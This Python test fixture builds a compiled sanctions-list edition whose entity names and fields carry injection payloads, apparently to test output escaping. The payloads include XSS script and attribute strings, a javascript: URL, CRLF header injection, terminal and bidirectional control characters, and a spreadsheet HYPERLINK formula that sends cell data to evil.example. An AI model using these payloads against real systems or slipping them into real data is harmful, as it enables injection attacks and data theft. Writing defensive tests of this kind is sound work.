"""An edition whose publisher was broken into: markup, formulas, line ends and signs that turn the reader around."""

from dataclasses import replace
from datetime import date
from pathlib import Path

from tests.serve.conftest import LISTS, NEWEST, _listing, _party

from licet.editions.compiled.edition import Compiled, Coverage, write
from licet.model import Detail, Digest, Edition, Listing, Party, PartyId, Relation, SourceId

SCRIPT = "Marigold <script>alert(1)</script> Works"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Amber Kestrel") Trading'
TURNED = "Velvet \u202eenil\u202c Harbor \x1b[31m Shipping"
BREAKING = "Copper Willow\r\nSet-Cookie: a=b\r\n\r\n<img src=x onerror=alert(1)>"
QUOTED = "Birch' onmouseover='alert(1)\" autofocus onfocus=\"alert(1) Optics"
PLAIN = "Quartz Lantern Semiconductor"
NAMES = {"script": SCRIPT, "formula": FORMULA, "turned": TURNED, "breaking": BREAKING, "quoted": QUOTED, "plain": PLAIN}
SINCE = date(2025, 1, 16)


def made(to: Path) -> Path:
    """The edition, in a folder."""
    to.mkdir(exist_ok=True)
    editions = tuple(Edition(SourceId(one), NEWEST, Digest("sha256:" + "0" * 64), 3, 100) for one in LISTS)
    held = tuple(Coverage(SourceId(one), (date(2019, 1, 1), NEWEST), NEWEST, 30, 2) for one in LISTS)
    write(to, Compiled(editions, held, tuple(map(_row, NAMES))))
    return to


def _row(word: str) -> tuple[Party, tuple[Listing, ...]]:
    identity, name = f"us_bis_entity_list:{word}-cn", NAMES[word]
    party = replace(
        _party(identity, name, (f"+{name}", f"@{name}"), SINCE),
        id=PartyId(identity),
        addresses=(f"-{name}, {SCRIPT}",),
        details=(Detail("website", "javascript:alert(1)"), Detail("remark", SCRIPT)),
        relations=(Relation("linked_to", SCRIPT),),
    )
    listing = replace(_listing(identity, name, (), SINCE), programs=(SCRIPT, FORMULA))
    return party, (listing,)
